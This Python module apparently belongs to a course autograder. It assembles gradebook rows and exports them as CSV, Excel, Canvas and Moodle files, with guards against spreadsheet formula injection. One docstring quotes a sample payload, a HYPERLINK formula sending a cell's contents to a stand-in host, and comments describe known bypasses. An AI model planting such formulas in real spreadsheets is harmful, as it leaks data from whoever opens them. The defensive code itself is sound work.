"""The class at a glance: one row per student, computed with a fixed number of queries.

Used by the instructor dashboard, the CSV export and `GET /api/v1/gradebook`. No query runs per
student or per submission: rows are assembled in Python from a handful of set-based queries.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections import Counter
from dataclasses import dataclass, field
from datetime import datetime

from sqlalchemy import case, func, select

from app.coursework import RubricView, rubric_for
from app.extensions import db
from app.models import (
    PENDING,
    Assignment,
    AuditReview,
    DroppedStudent,
    GradingRun,
    Role,
    ScoreOverride,
    Status,
    Submission,
    TestResult,
    User,
)
from app.monitoring import live_workers
from app.names import by_name, person_key
from app.review_text import as_reason
from app.scores import Effective, best_of, effective, fmt, overrides_in_force
from app.views_helpers import search_matches
from app.xlsx_write import MEDIA_TYPE as XLSX_MEDIA_TYPE
from app.xlsx_write import write_workbook
from grading.review import Reason


@dataclass
class SubmissionSummary:
    id: int
    attempt: int
    status: str
    late_days: int
    created_at: datetime
    score: Effective | None = None
    grader_version: str | None = None
    run_id: int | None = None


@dataclass
class StudentRow:
    id: int
    email: str
    name: str
    submissions: list[SubmissionSummary] = field(default_factory=list)

    @property
    def attempts(self) -> int:
        return len(self.submissions)

    @property
    def latest(self) -> SubmissionSummary | None:
        return self.submissions[-1] if self.submissions else None

    @property
    def latest_graded(self) -> SubmissionSummary | None:
        graded = [s for s in self.submissions if s.score is not None]
        return graded[-1] if graded else None

    @property
    def best(self) -> SubmissionSummary | None:
        # One rule for the gradebook and the student's page (app/scores.best_of).
        pick = best_of([(s, s.score) for s in self.submissions if s.score is not None])
        return pick[0] if pick else None

    @property
    def counting(self) -> SubmissionSummary | None:
        """The attempt that counts: the best graded one (what the gradebook exports)."""
        return self.best

    @property
    def status(self) -> str:
        return self.latest.status if self.latest else "none"

    @property
    def latest_total(self) -> float | None:
        s = self.latest_graded
        return s.score.total if s else None

    @property
    def best_total(self) -> float | None:
        s = self.best
        return s.score.total if s else None


def class_rows(assignment: Assignment) -> list[StudentRow]:
    """Every enrolled student (role student, not dropped) with all their attempts and the effective
    score of each attempt's newest graded run. Six queries whatever the class size."""
    students = db.session.execute(
        select(User.id, User.email, User.name)
        .where(User.role == Role.STUDENT.value, User.id.not_in(select(DroppedStudent.user_id)))
        .order_by(User.email)
    ).all()
    rubric = rubric_for(assignment.suite)
    rows = {s.id: StudentRow(s.id, s.email, s.name or "") for s in students}
    subs = db.session.execute(
        select(Submission.id, Submission.student_id, Submission.attempt, Submission.status,
               Submission.late_days, Submission.created_at)
        .where(Submission.assignment_id == assignment.id)
        .order_by(Submission.student_id, Submission.attempt)
    ).all()
    runs = db.session.execute(
        select(GradingRun.submission_id, GradingRun.id, GradingRun.total, GradingRun.max_total,
               GradingRun.categories, GradingRun.grader_version)
        .join(Submission, Submission.id == GradingRun.submission_id)
        .where(Submission.assignment_id == assignment.id, GradingRun.status == Status.GRADED)
        .order_by(GradingRun.id)
    ).all()
    newest_run = {r.submission_id: r for r in runs}  # ordered by id: the last one wins
    reviews = db.session.execute(
        select(AuditReview.submission_id, AuditReview.score)
        .join(Submission, Submission.id == AuditReview.submission_id)
        .where(Submission.assignment_id == assignment.id)
        .order_by(AuditReview.id)
    ).all()
    newest_review = {r.submission_id: r.score for r in reviews}
    override_rows = db.session.scalars(
        select(ScoreOverride).join(Submission, Submission.id == ScoreOverride.submission_id)
        .where(Submission.assignment_id == assignment.id).order_by(ScoreOverride.id)
    ).all()
    by_sub: dict[int, list] = {}
    for o in override_rows:
        by_sub.setdefault(o.submission_id, []).append(o)
    in_force = {sid: overrides_in_force(rows) for sid, rows in by_sub.items()}
    # Graded points of overridden tests, for the newest run of their submission (one query, only
    # when a test override exists).
    wanted = {(newest_run[sid].id, o.target) for sid, os_ in in_force.items() if sid in newest_run
              for o in os_ if o.kind == "test"}
    test_points: dict[int, dict[str, dict]] = {}
    if wanted:
        for t in db.session.execute(
            select(TestResult.run_id, TestResult.test_id, TestResult.category, TestResult.points,
                   TestResult.max_points)
            .where(TestResult.run_id.in_({r for r, _ in wanted}), TestResult.test_id.in_({t for _, t in wanted}))
        ).all():
            test_points.setdefault(t.run_id, {})[t.test_id] = {
                "category": t.category, "points": t.points, "max_points": t.max_points}
    for s in subs:
        row = rows.get(s.student_id)
        if row is None:
            continue  # an instructor's own test submission: not in the class list
        summary = SubmissionSummary(s.id, s.attempt, s.status, s.late_days, s.created_at)
        run = newest_run.get(s.id)
        if run is not None:
            summary.grader_version = run.grader_version
            summary.run_id = run.id
            summary.score = effective(
                run.total, run.max_total, run.categories, rubric=rubric,
                late_days=s.late_days, penalty_per_day=assignment.late_penalty_per_day,
                audit_override=newest_review.get(s.id),
                overrides=in_force.get(s.id, ()), tests=test_points.get(run.id),
            )
        row.submissions.append(summary)
    # In class-list order (pinyin for Chinese names): the exports and every list built on these rows.
    return by_name(rows.values(), _person)


def _person(r: StudentRow) -> tuple[str, str]:
    return r.name, r.email


# Each column's key; None: the row has no value there (no score yet), listed last both ways.
SORT_KEYS = {
    "name": lambda r: person_key(r.name, r.email),
    "email": lambda r: r.email.lower(),
    "latest": lambda r: None if r.latest_total is None else -r.latest_total,
    "best": lambda r: None if r.best_total is None else -r.best_total,
    "attempts": lambda r: -r.attempts,
    # In the order of the status filter, as the page names them (the stored keys' English spelling put
    # "error" first and "no attempt" between "graded" and "queued", in either language).
    "status": lambda r: (STATUSES.index(r.status) if r.status in STATUSES else len(STATUSES), r.status),
}
STATUSES = ("none", *Status)  # "none": no attempt yet


def filter_sort(rows: list[StudentRow], q: str = "", status: str = "", sort: str = "name",
                desc: bool = False) -> list[StudentRow]:
    if q and q.strip():
        rows = [r for r in rows if search_matches(q, r.email, r.name)]
    if status in STATUSES:
        rows = [r for r in rows if r.status == status]
    # Round 36: the list reversed for `desc` put the rows without a score first, above the lowest scores,
    # and each tie's names from Z to A. A stable sort on the column, reversed or not, over rows in name
    # order keeps ties by name; rows without a value follow, by name.
    key = SORT_KEYS.get(sort, SORT_KEYS["name"])
    rows = sorted(rows, key=SORT_KEYS["name"])
    valued = [r for r in rows if key(r) is not None]
    return sorted(valued, key=key, reverse=desc) + [r for r in rows if key(r) is None]


def distribution(rows: list[StudentRow], bins: int = 10) -> list[dict]:
    """Histogram of the best effective totals in 10-point bins (the last bin includes 100)."""
    counts = [0] * bins
    for r in rows:
        if r.best_total is not None:
            counts[min(bins - 1, int(r.best_total // (100 / bins)))] += 1
    width = 100 // bins
    return [{"lo": i * width, "hi": (i + 1) * width, "count": c} for i, c in enumerate(counts)]


def _counting_runs(rows: list[StudentRow]) -> dict[int, StudentRow]:
    """{run id: row} of the graded run of each student's counting attempt (the runs the dashboard counts)."""
    return {r.counting.run_id: r for r in rows if r.counting is not None and r.counting.run_id is not None}


def pass_rates(rows: list[StudentRow]) -> list[dict]:
    """Per test, over the graded run of each student's counting attempt: how many passed. Sorted
    with the most failed first. One aggregate query."""
    newest = list(_counting_runs(rows))
    if not newest:
        return []
    stats = db.session.execute(
        select(
            TestResult.test_id,
            func.min(TestResult.category),
            # max over 0/1 rather than bool_or: the same SQL on PostgreSQL and SQLite.
            func.max(case((TestResult.hidden, 1), else_=0)),
            func.count(TestResult.id),
            func.sum(case((TestResult.outcome == "passed", 1), else_=0)),
        )
        .where(TestResult.run_id.in_(newest))
        .group_by(TestResult.test_id)
    ).all()
    out = [
        {"test_id": t, "category": c, "hidden": bool(h), "runs": n, "passed": int(p or 0),
         "rate": (int(p or 0) / n) if n else 0.0}
        for t, c, h, n, p in stats
    ]
    return sorted(out, key=lambda d: (d["rate"], d["test_id"]))


def flagged(rows: list[StudentRow]) -> list[tuple[StudentRow, list[Reason]]]:
    """The students whose counting attempt's graded run the grader flagged for a person to look at
    (result["review"]: an audit the checker failed on, names its review could not follow, ...), with
    the reasons (``{"code", "params", "text"}``, an old row's strings read back: app/review_text.py), by
    name. One query, reading only that key of each result."""
    by_run = _counting_runs(rows)
    if not by_run:
        return []
    found = db.session.execute(
        select(GradingRun.id, GradingRun.result["review"]).where(GradingRun.id.in_(list(by_run)))
    ).all()
    out = [(by_run[run_id], [as_reason(x) for x in review]) for run_id, review in found
           if isinstance(review, list) and review]
    return by_name(out, lambda item: _person(item[0]))


def grader_versions(rows: list[StudentRow]) -> list[dict]:
    """The grader versions that graded the counting attempts, each with how many and its newest run,
    the version of the newest run first: after the tests change (a new suite version), the attempts
    graded before still count until they are regraded, and the dashboard says how many. No query."""
    seen: dict[str, dict] = {}
    for r in rows:
        c = r.counting
        if c is None or c.run_id is None:
            continue
        v = seen.setdefault(c.grader_version or "", {"version": c.grader_version or "", "count": 0, "newest": 0})
        v["count"] += 1
        v["newest"] = max(v["newest"], c.run_id)
    return sorted(seen.values(), key=lambda v: -v["newest"])


def failing(rows: list[StudentRow], test_id: str) -> list[dict]:
    """The students whose counting attempt does not pass `test_id`, with the test's feedback (the
    instructor's full text, hidden tests included). One query."""
    by_run = _counting_runs(rows)
    if not by_run:
        return []
    found = db.session.execute(
        select(TestResult.run_id, TestResult.outcome, TestResult.points, TestResult.max_points,
               TestResult.feedback, TestResult.hidden)
        .where(TestResult.run_id.in_(list(by_run)), TestResult.test_id == test_id,
               TestResult.outcome != "passed")
    ).all()
    from grading.i18n import decode

    # feedback: a {"en", "zh"} message (stored as JSON text), or a plain string from older runs.
    out = [{"row": by_run[t.run_id], "outcome": t.outcome, "points": t.points, "max_points": t.max_points,
            "feedback": decode(t.feedback), "hidden": t.hidden} for t in found]
    return by_name(out, lambda d: _person(d["row"]))


def ran_test(rows: list[StudentRow], test_id: str) -> bool:
    """Whether the graded run of some student's counting attempt has a result for `test_id`. One query."""
    runs = list(_counting_runs(rows))
    return bool(runs) and db.session.scalar(
        select(TestResult.id).where(TestResult.run_id.in_(runs), TestResult.test_id == test_id).limit(1)) is not None


def queue_stats() -> dict:
    counts = dict(
        db.session.execute(
            select(GradingRun.status, func.count(GradingRun.id))
            .where(GradingRun.status.in_(PENDING))
            .group_by(GradingRun.status)
        ).all()
    )
    workers = live_workers()
    return {"queued": counts.get(Status.QUEUED, 0), "running": counts.get(Status.RUNNING, 0),
            "workers": [{"name": w.hostname, "concurrency": w.concurrency,
                         "grader_version": w.grader_version, "last_seen": w.last_seen} for w in workers]}


# --- export ---------------------------------------------------------------------------------------

SCORE_HEADER = "score (best attempt, after late penalty and audit override)"


def export_rows(rows: list[StudentRow], rubric: RubricView) -> list[dict]:
    """One dict per student; `categories` has the rubric's categories, in rubric order."""
    out = []
    for r in rows:
        best = r.best
        cats = best.score.categories if best else {}
        item = {
            "email": r.email,
            "name": r.name,
            "score": round(best.score.total, 2) if best else None,
            "max": best.score.max_total if best else rubric.max_total,
            "best_attempt": best.attempt if best else None,
            "categories": {k: (cats.get(k) or {}).get("score") for k in rubric.names},
            "attempts": r.attempts,
            "late_days": best.late_days if best else 0,
            "status": r.status,
        }
        out.append(item)
    return out


# The plain exports' header, two ways (HEADERS): "labels", words in the reader's language, for people (round
# 47: a zh instructor's file was headed by the rubric's English keys, formula_shape, best_attempt); "keys", the
# header these files had before, fixed whatever the language, for scripts that read columns by name. The LMS
# layouts (Canvas, Moodle) keep the headers their importers read. Each fixed column: (key, en, zh).
_LEADING = (("email", "Email", "邮箱"), ("name", "Name", "姓名"))
_SCORE = (SCORE_HEADER, "Score (of {max}; best attempt, after late penalty and audit override)",
          "总分（满分 {max}；取最佳一次提交，已计迟交扣分和审计改分）")
_TRAILING = (("attempts", "Attempts", "提交次数"), ("best_attempt", "Best attempt (number)", "最佳提交（第几次）"),
             ("late_days", "Late days", "迟交天数"))
HEADERS: dict[str, tuple[str, str]] = {
    "labels": ("column names in the reader's language (Accept-Language, or the page's language)",
               "列名为读者的语言（Accept-Language 或页面语言）"),
    "keys": ("the fixed column keys, the same in every language: email, name, the rubric's category keys, ...",
             "固定的列键，与语言无关：email、name、评分标准的类别键等"),
}


def plain_header(rubric: RubricView, headers: str = "keys", lang: str = "en") -> list[str]:
    """The plain gradebook's header row: the column keys, or their labels in `lang` (en or zh)."""
    if headers == "keys":
        return [*(k for k, _, _ in _LEADING), SCORE_HEADER, *rubric.names, *(k for k, _, _ in _TRAILING)]
    zh = lang.startswith("zh")

    def label(column: tuple[str, str, str]) -> str:
        return column[2] if zh else column[1]

    out_of = "{}（满分 {}）" if zh else "{} (of {})"
    return [*map(label, _LEADING), label(_SCORE).format(max=fmt(float(rubric.max_total))),
            *(out_of.format(rubric.label(n, lang), fmt(float(rubric.categories[n]["max"]))) for n in rubric.names),
            *map(label, _TRAILING)]


def _plain_table(rows: list[StudentRow], rubric: RubricView, headers: str = "keys", lang: str = "en") -> list[list]:
    """The plain gradebook: a header (plain_header), then one row per student, one column per rubric category;
    scores as numbers, None where there is none."""
    out: list[list] = [plain_header(rubric, headers, lang)]
    for item in export_rows(rows, rubric):
        out.append([item["email"], item["name"], item["score"], *item["categories"].values(),
                    item["attempts"], item["best_attempt"], item["late_days"]])
    return out


def to_csv(rows: list[StudentRow], rubric: RubricView, headers: str = "keys", lang: str = "en") -> bytes:
    """UTF-8 with a BOM (Excel opens Chinese names correctly); one row per student, one column
    per rubric category."""
    def shown(value: object) -> object:
        return "" if value is None else fmt(value) if isinstance(value, float) else value

    return excel_csv([[shown(c) for c in row] for row in _plain_table(rows, rubric, headers, lang)])


def to_xlsx(rows: list[StudentRow], rubric: RubricView, headers: str = "keys", lang: str = "en") -> bytes:
    """The plain gradebook as an Excel workbook: each cell of its own type (app.xlsx_write)."""
    sheet = "成绩册" if headers == "labels" and lang.startswith("zh") else "Gradebook"
    return write_workbook(_plain_table(rows, rubric, headers, lang), sheet)


def excel_csv(rows: list[list]) -> bytes:
    """Every CSV the course downloads: UTF-8 with a BOM, CRLF, and every text cell, headers
    included, through _safe_cell. Cells were made safe one by one before, and the Canvas and
    Moodle headers, which carry the assignment's title, were not: a title starting with = opened
    as a formula in the instructor's spreadsheet."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerows([_safe_login(c) if isinstance(c, Login) else _safe_cell(c) if isinstance(c, str) else c
                 for c in row] for row in rows)
    return _excel_utf8(buf.getvalue())


class Login(str):
    """A cell an LMS importer matches exactly to find the student (Canvas's SIS Login ID, Moodle's
    useremail): written by excel_csv through _safe_login, not _safe_cell. Round 33: the apostrophe
    _safe_cell puts before a login starting with + - = @ ("+zero@example.edu") reached Canvas, which
    then found no student with that login."""


# What a login may hold and still go out as written: letters, digits and the characters of an
# address's dot-atom that build no formula able to act. A spreadsheet runs something only through
# a function call "(", a DDE link "|" or "!", a reference to another sheet or file "!" "[", text in
# quotes, or an operator between such parts ("&" "," ";" and spaces); "=a+b@x.edu" is at worst an
# error in one cell.
_INERT_LOGIN = re.compile(r"[\w.%+\-=@#$*/?^~]+")


def _safe_login(value: str) -> str:
    """A login exactly as the LMS knows it when it cannot act as a formula (_INERT_LOGIN), else made
    text as every other cell: an address such as '=HYPERLINK("http://x/?"&A2)@x.edu' is still
    neutralised, and a row Canvas cannot match is shown to the instructor in its import preview."""
    return value if _INERT_LOGIN.fullmatch(value) else _safe_cell(value)


def _excel_utf8(text: str) -> bytes:
    """UTF-8 with a byte-order mark: Excel reads a CSV without one in the ANSI code page, so 王小明
    comes out garbled. Both LMS importers read the mark: Moodle's csv_import_reader strips it
    (core_text::trim_utf8_bom in load_csv_content), and Canvas writes one in its own gradebook
    exports (the include_byte_order_mark_in_gradebook_exports setting) that its importer takes back."""
    return ("\ufeff" + text).encode("utf-8")


# --- LMS import layouts ---------------------------------------------------------------------------
#
# Canvas (Grades > Import): a header row `Student, ID, SIS User ID, SIS Login ID, Section` then one
# column per assignment; a second row whose Student cell is "Points Possible" gives each column's
# points; a column whose name matches no Canvas assignment creates one with those points. Canvas
# matches a student by ID, SIS User ID or SIS Login ID: we fill SIS Login ID with the email (the
# course's login) and leave the Canvas-internal ids empty. A blank score leaves Canvas unchanged.
#
# Moodle (Grades > Import > CSV file): one header row, one row per student, no other rows; the
# teacher maps "Email address" to "useremail" and the score column to a grade item (or a new one).
# Moodle keeps the maximum on the grade item, so the points possible are in the column's name.

CANVAS_ID_COLUMNS = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
# Checked in round 31 against Canvas's importer (GradebookImporter#update_column_count, and its specs'
# CSVs): the columns are read by position, Student and ID first, then "SIS User ID" and "SIS Login ID"
# side by side, then Section; ours are in that order. Canvas then finds each row's student by ID, SIS
# User ID, SIS Login ID (the login, exactly), and last by the Student cell's name: a name two students
# share would give both rows to whichever Canvas student has it when the login does not match (a
# course whose Canvas login is not the email), so such a row names the student by email instead.
# Two things in an assignment column's name change what Canvas reads, see _canvas_column.
CANVAS_TOTALS = ("Current Score", "Current Points", "Current Grade", "Final Score", "Final Points", "Final Grade",
                 "Override Score", "Override Grade", "Override Status")
MOODLE_ID_COLUMNS = ["First name", "Last name", "Email address"]


def _points(item: dict) -> str:
    return "" if item["score"] is None else fmt(item["score"])


def _max_points(assignment: Assignment) -> float:
    return float(rubric_for(assignment.suite).max_total)


def _canvas_column(title: str) -> str:
    r"""The assignment column's name, as Canvas will read it back: its importer takes a name ending in
    a number in brackets for "title (Canvas id)" (Assignment.title_and_id, /\A(.*)\s\((\d+)\)\z/: "Lab
    (2)" became an assignment "Lab", or id 2's grades), and drops a column whose name contains one of
    its total columns' names (CANVAS_TOTALS, unanchored: "Lab 3 Final Score" was not imported). A
    no-break space in place of the space these patterns need keeps the title as written: Ruby's \s
    and the patterns' spaces are ASCII only, and it looks the same."""
    title = re.sub(r"\s(\(\d+\))\Z", "\u00a0\\1", title)
    for total in CANVAS_TOTALS:
        title = title.replace(total, total.replace(" ", "\u00a0"))
    return title


def to_canvas_csv(rows: list[StudentRow], assignment: Assignment) -> bytes:
    items = export_rows(rows, rubric_for(assignment.suite))
    shared = {name for name, n in Counter(item["name"] for item in items if item["name"]).items() if n > 1}
    out = [[*CANVAS_ID_COLUMNS, _canvas_column(assignment.title)],
           ["Points Possible", "", "", "", "", fmt(_max_points(assignment))]]
    out += [[item["email"] if not item["name"] or item["name"] in shared else item["name"], "", "", Login(item["email"]),
             "", _points(item)] for item in items]
    return excel_csv(out)


def _split_name(name: str) -> tuple[str, str]:
    """'Alice Wang' → ('Alice', 'Wang'); a name without a space (王小明) stays whole as the first name."""
    first, _, last = (name or "").strip().rpartition(" ")
    return (first, last) if first else (last, "")


def to_moodle_csv(rows: list[StudentRow], assignment: Assignment) -> bytes:
    items = export_rows(rows, rubric_for(assignment.suite))
    out = [[*MOODLE_ID_COLUMNS, f"{assignment.title} (out of {fmt(_max_points(assignment))})"]]
    out += [[*_split_name(item["name"]), Login(item["email"]), _points(item)] for item in items]
    return excel_csv(out)


EXPORT_FORMATS = ("csv", "xlsx", "canvas", "moodle")
# What each format of GET /api/v1/gradebook gives, in both languages (errors.one_of); "json" is the API's own.
FORMAT_TEXT: dict[str, tuple[str, str]] = {
    "json": ("the gradebook as JSON", "JSON 格式的成绩册"),
    "csv": ("a spreadsheet: UTF-8 CSV, one column per rubric category", "电子表格：UTF-8 编码的 CSV，每个评分类别一列"),
    "xlsx": ("an Excel workbook (.xlsx) of the same columns, scores as numbers",
             "相同各列的 Excel 工作簿（.xlsx），分数为数字"),
    "canvas": ("a CSV in the layout of Canvas's gradebook import", "按 Canvas 成绩导入格式排列的 CSV"),
    "moodle": ("a CSV in the layout of Moodle's CSV grade import", "按 Moodle CSV 成绩导入格式排列的 CSV"),
}


def export(rows: list[StudentRow], assignment: Assignment, fmt_name: str, *, headers: str = "keys",
           lang: str = "en") -> tuple[bytes, str]:
    """(file body, download file name) in one of EXPORT_FORMATS; the plain formats' header as `headers` (HEADERS)
    says, in `lang`. The Canvas and Moodle layouts keep the English headers their importers match."""
    if fmt_name == "canvas":
        return to_canvas_csv(rows, assignment), f"canvas-{assignment.slug}.csv"
    if fmt_name == "moodle":
        return to_moodle_csv(rows, assignment), f"moodle-{assignment.slug}.csv"
    if fmt_name == "xlsx":
        return to_xlsx(rows, rubric_for(assignment.suite), headers, lang), f"gradebook-{assignment.slug}.xlsx"
    return to_csv(rows, rubric_for(assignment.suite), headers, lang), f"gradebook-{assignment.slug}.csv"


def media_type(file_name: str) -> str:
    """The Content-Type of an export named `file_name` by `export`."""
    return XLSX_MEDIA_TYPE if file_name.endswith(".xlsx") else "text/csv; charset=utf-8"


def _safe_cell(value: str) -> str:
    """No spreadsheet formula injection through a name: prefix cells starting with = + - @, a tab, a
    carriage return or a line feed (OWASP's list), and those whose first visible character is one of
    = + - @ after spaces or line breaks (`"   =SUM(...)"`, a published bypass of a first-character check;
    whether it runs depends on the spreadsheet's import settings, unknown here: round 24)."""
    if value and (value[0] in "\t\r\n" or _first_visible_is_formula_sign(value)):
        return "'" + value
    return value


def _first_visible_is_formula_sign(value: str) -> bool:
    """Whether the first character that is neither a space nor an invisible format character is = + - @
    in any of its Unicode forms. Round 26: the full-width ＝＋－＠ (what a Chinese or Japanese input
    method types), the small ﹦﹢﹣ and a zero-width space or BOM in front of = went out as they were;
    CJK spreadsheets turn a full-width ＝ into = as it is entered. NFKC folds every such form (and only
    compatibility forms: the minus sign U+2212 and the dash stay text) onto the ASCII sign."""
    for ch in value:
        if ch.isspace() or unicodedata.category(ch) == "Cf":
            continue
        return unicodedata.normalize("NFKC", ch) in ("=", "+", "-", "@")
    return False
